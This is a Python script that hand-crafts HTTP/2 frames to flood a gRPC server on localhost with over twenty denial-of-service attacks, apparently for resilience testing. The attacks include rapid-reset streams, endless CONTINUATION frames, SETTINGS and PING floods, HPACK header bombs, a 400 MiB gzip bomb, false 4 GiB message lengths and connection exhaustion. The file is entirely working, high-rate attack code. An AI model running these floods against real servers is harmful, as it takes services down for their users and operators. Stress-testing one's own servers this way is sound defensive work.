"""Attacks on a gRPC server by HTTP/2 frames that no library would send, each for some seconds.

    attack.py NAME PORT SECONDS [CREDENTIAL PATH BODY_FILE]

Frames are made by hand (RFC 9113, RFC 7541) in blocks, so that one process of this sends hundreds of thousands a
second. Whatever the server answers is thrown away, or not even read. When it hangs up, the attack connects again. What
was sent is printed as JSON.
"""

import gzip
import itertools
import json
import select
import socket
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST, SETTINGS, PING, GOAWAY, WINDOW, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS = 1, 4
FRAME_MAX = 16384
BLOCK = 64 << 10  # about how much is made at a time


def frame(kind, flags, stream, payload=b""):
    return struct.pack("!IBI", len(payload) << 8 | kind, flags, stream) + payload


def integer(value, prefix, first=0):
    """RFC 7541, 5.1."""
    most = (1 << prefix) - 1
    if value < most:
        return bytes([first | value])
    out, value = bytearray([first | most]), value - most
    while value > 127:
        out.append(value & 127 | 128)
        value >>= 7
    return bytes(out) + bytes([value])


def header(name, value, keep=False):
    """A literal header; `keep` puts it into the table that both sides hold."""
    return (b"\x40" if keep else b"\x00") + b"".join(integer(len(text), 7) + text for text in (name, value))


def setting(number, value):
    return struct.pack("!HI", number, value)


class Target:
    def __init__(self, port, credential="", path="/isms.actions.v1.ActionService/GetAction", body=b""):
        self.port, self.path, self.body = port, path.encode(), body
        self.credential = [(b"authorization", b"Bearer " + credential.encode())] if credential else []

    def headers(self, more=()):
        return [(b":method", b"POST"), (b":scheme", b"http"), (b":path", self.path), (b":authority", b"localhost"),
                (b"te", b"trailers"), (b"content-type", b"application/grpc"), *self.credential, *more]

    def request(self, keep=False, more=()):
        return b"".join(header(name, value, keep) for name, value in self.headers(more))

    def again(self):
        """The same headers, when they were sent with `keep` as the only ones: one byte each."""
        count = len(self.headers())
        return bytes(0x80 | 62 + n for n in reversed(range(count)))

    def message(self):
        return b"\x00" + struct.pack("!I", len(self.body)) + self.body


class Connection:
    """A connection and what is still to be sent on it."""

    def __init__(self, target, greeting, blocks, read):
        self.socket = socket.create_connection(("127.0.0.1", target.port), timeout=5)
        self.socket.setblocking(False)
        self.pending, self.blocks, self.read = greeting, blocks, read
        self.sent = 0

    def step(self, readable, writable):
        """Goes on; False when the server has hung up."""
        try:
            if readable and not self.socket.recv(1 << 20):
                return False
            while writable:
                if not self.pending:
                    self.pending = next(self.blocks, b"")
                    if not self.pending:
                        break
                count = self.socket.send(self.pending)
                self.sent += count
                self.pending = self.pending[count:]
        except BlockingIOError:
            pass
        except OSError:
            return False
        return True


class Attack:
    """blocks(target) gives what a connection sends after its greeting; where that ends, the connection stays."""

    def __init__(self, blocks, connections=4, greeting=PREFACE + frame(SETTINGS, 0, 0), read=True):
        self.blocks, self.connections, self.greeting, self.read = blocks, connections, greeting, read

    def run(self, target, seconds):
        until = time.monotonic() + seconds
        living, opened, refused, sent = [], 0, 0, 0
        while time.monotonic() < until:
            while len(living) < self.connections and time.monotonic() < until:
                try:
                    living.append(Connection(target, self.greeting, self.blocks(target), self.read))
                    opened += 1
                except OSError:
                    refused += 1
                    break
            idle = [one for one in living if not one.pending]
            for one in idle:
                one.pending = next(one.blocks, b"")
            can_read, can_write, _ = select_all(
                [one.socket for one in living if one.read], [one.socket for one in living if one.pending],
                min(0.1, max(0, until - time.monotonic())))
            for one in list(living):
                if not one.step(one.socket in can_read, one.socket in can_write):
                    living.remove(one)
                    sent += one.sent
                    one.socket.close()
        sent += sum(one.sent for one in living)
        return {"connections": opened, "refused": refused, "open": len(living), "megabytes": round(sent / 1e6, 1)}


def select_all(readers, writers, timeout):
    """select() for more than 1,024 sockets."""
    poll, found = select.poll(), {}
    for one in readers:
        found.setdefault(one.fileno(), [one, 0])[1] |= select.POLLIN
    for one in writers:
        found.setdefault(one.fileno(), [one, 0])[1] |= select.POLLOUT
    for number, (_, events) in found.items():
        poll.register(number, events)
    can_read, can_write = set(), set()
    for number, events in poll.poll(timeout * 1000):
        one, wanted = found[number]
        if wanted & select.POLLIN and events & (select.POLLIN | select.POLLHUP | select.POLLERR):
            can_read.add(one)
        if wanted & select.POLLOUT and events & (select.POLLOUT | select.POLLERR):
            can_write.add(one)
    return can_read, can_write, None


def repeated(make):
    """The same bytes without end."""
    def blocks(target):
        piece = make(target)
        block = piece * max(1, BLOCK // len(piece))
        while True:
            yield block
    return blocks


def streams(make, most=None):
    """make(target, stream) for one stream after the other, headers shrunk to one byte each after the first."""
    def blocks(target):
        numbers = itertools.count(3, 2) if most is None else iter(range(3, 3 + 2 * most, 2))
        yield frame(HEADERS, END_HEADERS, 1, target.request(keep=True)) + frame(RST, 0, 1, struct.pack("!I", 8))
        while True:
            block = b"".join(make(target, number) for number in itertools.islice(numbers, 512))
            if not block:
                return
            yield block
    return blocks


def reset(target, stream):
    return frame(HEADERS, END_HEADERS, stream, target.again()) + frame(RST, 0, stream, struct.pack("!I", 8))


def reset_whole(target, stream):
    return (frame(HEADERS, END_HEADERS, stream, target.again()) +
            frame(DATA, END_STREAM, stream, target.message()) + frame(RST, 0, stream, struct.pack("!I", 8)))


def paced(blocks, seconds):
    """A pause after each block, in which the server can do all its work."""
    def slowly(target):
        for block in blocks(target):
            yield block
            until = time.monotonic() + seconds
            while time.monotonic() < until:
                yield b""
    return slowly


def whole(target, stream):
    return frame(HEADERS, END_HEADERS, stream, target.again()) + frame(DATA, END_STREAM, stream, target.message())


def headers_only(target, stream):
    return frame(HEADERS, END_HEADERS, stream, target.again())


def begun(rest):
    """An open stream, then the rest without end."""
    def blocks(target):
        yield frame(HEADERS, END_HEADERS, 1, target.request())
        yield from repeated(lambda _: rest)(target)
    return blocks


def endless_headers(piece):
    """A header block that never ends."""
    def blocks(target):
        yield frame(HEADERS, 0, 1, target.request())
        yield from repeated(lambda _: frame(CONTINUATION, 0, 1, piece))(target)
    return blocks


def huge_headers(target):
    """A header of 4 MiB on one stream after the other."""
    value = integer(4 << 20, 7) + b"x" * (4 << 20)
    block = target.request() + b"\x00" + integer(6, 7) + b"x-huge" + value
    for stream in itertools.count(1, 2):
        parts = [block[at:at + FRAME_MAX] for at in range(0, len(block), FRAME_MAX)]
        last = len(parts) - 1
        yield b"".join(frame(CONTINUATION if n else HEADERS, END_HEADERS if n == last else 0, stream, part)
                       for n, part in enumerate(parts))


def header_bomb(target):
    """One header of 4,000 bytes in the table, then 16,000 times a byte that means it: 64 MB a frame."""
    yield frame(HEADERS, END_HEADERS, 1, target.request() + header(b"x-bomb", b"b" * 4000, keep=True))
    for stream in itertools.count(3, 2):
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, target.request() + b"\xbe" * (FRAME_MAX - 1000))


def bodies(packed, length=None, encoding=()):
    """One request after the other with this body; `length` is what its head says."""
    def blocks(target):
        head = target.request(more=encoding)
        for stream in itertools.count(1, 2):
            body = bytes([bool(encoding)]) + struct.pack("!I", len(packed) if length is None else length) + packed
            parts = [body[at:at + FRAME_MAX] for at in range(0, len(body), FRAME_MAX)]
            yield frame(HEADERS, END_HEADERS, stream, head) + b"".join(
                frame(DATA, END_STREAM if n == len(parts) - 1 and length is None else 0, stream, part)
                for n, part in enumerate(parts))
    return blocks


def gzip_bomb():
    return gzip.compress(b"\x9a\x06" + bytes(400 << 20), 9)  # of 400 MiB, in 400 kB


def silent(_target):
    return iter(())


def attacks():
    """Made when asked for: some are large."""
    stalled = PREFACE + frame(SETTINGS, 0, 0, setting(4, 0))
    wide = PREFACE + frame(SETTINGS, 0, 0, setting(4, (1 << 31) - 1))
    return {
        "rapid reset": lambda: Attack(streams(reset)),
        "rapid reset of whole requests": lambda: Attack(streams(reset_whole)),
        "rapid reset at intervals": lambda: Attack(paced(streams(reset), 0.2)),
        "headers without end": lambda: Attack(endless_headers(header(b"x-more", b"y" * 1000))),
        "empty CONTINUATION frames": lambda: Attack(endless_headers(b"")),
        "SETTINGS flood": lambda: Attack(repeated(lambda _: frame(SETTINGS, 0, 0, setting(4, 65535)))),
        "SETTINGS flood, answers not read": lambda: Attack(repeated(lambda _: frame(SETTINGS, 0, 0)), read=False),
        "PING flood": lambda: Attack(repeated(lambda _: frame(PING, 0, 0, bytes(8)))),
        "PING flood, answers not read": lambda: Attack(repeated(lambda _: frame(PING, 0, 0, bytes(8))), read=False),
        "empty DATA frames": lambda: Attack(begun(frame(DATA, 0, 1))),
        "WINDOW_UPDATE flood": lambda: Attack(begun(frame(WINDOW, 0, 1, struct.pack("!I", 1)))),
        "PRIORITY flood": lambda: Attack(repeated(lambda _: frame(PRIORITY, 0, 1, struct.pack("!IB", 0, 9)))),
        "unknown frames": lambda: Attack(repeated(lambda _: frame(0xEE, 255, 7, b"z" * 100))),
        "huge headers": lambda: Attack(huge_headers),
        "header bomb": lambda: Attack(header_bomb),
        "gzip bombs": lambda: Attack(bodies(gzip_bomb(), encoding=[(b"grpc-encoding", b"gzip")])),
        "messages of 4 GiB": lambda: Attack(bodies(b"m" * (1 << 20), length=0xFFFFFFFF), connections=16),
        "stalled windows": lambda: Attack(streams(whole, most=900), connections=16, greeting=stalled),
        "slow readers": lambda: Attack(streams(whole, most=900), connections=16, greeting=wide, read=False),
        "headers without body": lambda: Attack(streams(headers_only, most=900), connections=16),
        "idle connections": lambda: Attack(silent, connections=1000),
        "silent connections": lambda: Attack(silent, connections=1000, greeting=b""),
        "HTTP/1.1": lambda: Attack(silent, connections=16, greeting=b"GET / HTTP/1.1\r\nHost: x\r\n\r\n"),
        "garbage after the preface": lambda: Attack(repeated(lambda _: b"\xde\xad\xbe\xef" * 99), greeting=PREFACE),
    }


if __name__ == "__main__":
    name, port, seconds, *call = sys.argv[1:]
    if call:
        call[2] = open(call[2], "rb").read()
    print(json.dumps(attacks()[name]().run(Target(int(port), *call), float(seconds))))
